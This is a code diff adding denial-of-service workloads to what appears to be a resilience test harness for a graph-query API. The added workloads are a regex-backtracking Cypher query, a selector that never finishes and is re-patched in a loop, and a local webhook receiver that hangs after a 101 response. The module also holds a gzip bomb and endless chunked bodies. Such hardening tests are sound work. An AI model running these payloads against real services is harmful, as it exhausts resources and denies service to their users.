@@ -1,7 +1,7 @@
 /** What an adversary does to the service, each in a loop until it is told to stop. None needs rights. */
 import { randomUUID } from 'node:crypto';
 import { once } from 'node:events';
-import { connect, type Socket } from 'node:net';
+import { type AddressInfo, connect, createServer, type Socket } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { gzipSync } from 'node:zlib';
 
@@ -13,6 +13,8 @@ export interface Target {
   readonly jobId: number;
   /** Of a real user, for what needs one. */
   readonly bearer: string;
+  /** Of a user who may only read. */
+  readonly readerBearer: string;
   readonly signal: AbortSignal;
 }
 
@@ -47,6 +49,20 @@ async function repeat(target: Target, pauseMs: number, attack: () => Promise<unk
 
 const CHUNK = Buffer.concat([Buffer.from('10000\r\n'), Buffer.alloc(65_536, 'x'), Buffer.from('\r\n')]);
 const BOMB = gzipSync(Buffer.alloc(64 * 1024 * 1024));
+
+/** One step of the engine takes hours: no look at a deadline happens inside of it. */
+const ENDLESS_TEXT = "WITH reduce(s = 'a', x IN range(1, 23) | s + s) AS b";
+
+function asker({ url, signal }: Target, bearer: string) {
+  return async (method: string, path: string, body?: object, more: Record<string, string> = {}) => {
+    const headers = { authorization: `Bearer ${bearer}`, 'content-type': 'application/json', ...more };
+    const answer = await fetch(`${url}/api/v2/${path}`, {
+      ...{ method, headers, signal },
+      ...(body && { body: JSON.stringify(body) }),
+    });
+    return (await answer.json().catch(() => ({}))) as { data?: { id?: string | number } };
+  };
+}
 
 export const ATTACKS: Readonly<Record<string, (target: Target) => Promise<void>>> = {
   /** Endless chunked bodies under a signature that does not fit. */
@@ -157,4 +173,51 @@ export const ATTACKS: Readonly<Record<string, (target: Target) => Promise<void>>
       await post(`/api/v2/file-upload/${id}`, `{"data":[${elements}],"meta":{"type":"users","version":6}}`);
       await post(`/api/v2/file-upload/${id}/end`);
     }),
+
+  /** Queries that do not end by themselves, several at once, left by their client. */
+  'hostile Cypher': (target) => {
+    const ask = asker(target, target.readerBearer);
+    const query = `${ENDLESS_TEXT} RETURN b =~ '(.*a){200}b'`;
+    return repeat(target, 50, async () => {
+      const asked = [1, 2, 3].map(() => ask('POST', 'graphs/cypher', { query }, { prefer: 'wait=3' }));
+      await Promise.allSettled(asked);
+    });
+  },
+
+  /** A selector that does not end by itself, changed again and again, so that it is always tried anew. */
+  'hostile selector': async (target) => {
+    const ask = asker(target, target.bearer);
+    const value = (n: number) => `${ENDLESS_TEXT} MATCH (n:Group) WHERE b =~ '(.*a){${800 + n}}b' RETURN n`;
+    const path = 'asset-group-tags/1/selectors';
+    let n = 0;
+    const made = await ask('POST', path, { name: 'endless', seeds: [{ type: 2, value: value(n) }] });
+    await repeat(target, 20_000, () =>
+      ask('PATCH', `${path}/${made.data?.id}`, { seeds: [{ type: 2, value: value(++n) }] }),
+    );
+    await fetch(`${target.url}/api/v2/${path}/${made.data?.id}`, {
+      method: 'DELETE',
+      headers: { authorization: `Bearer ${target.bearer}` },
+    });
+  },
+
+  /** A receiver of webhooks that changes the protocol, and then says nothing. */
+  '101 receiver': async (target) => {
+    const held = new Set<Socket>();
+    const server = createServer((socket) => {
+      held.add(socket);
+      socket.on('error', () => {});
+      socket.once('close', () => held.delete(socket));
+      socket.once('data', () =>
+        socket.write('HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n'),
+      );
+    });
+    server.listen(0, '127.0.0.1');
+    await once(server, 'listening');
+    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
+    const ask = asker(target, target.bearer);
+    const { data } = await ask('POST', 'webhooks', { name: '101', url, event_types: ['job.failed'] });
+    await repeat(target, 1_000, () => ask('POST', `webhooks/${data?.id}/test`));
+    server.close();
+    for (const socket of held) socket.destroy();
+  },
 };
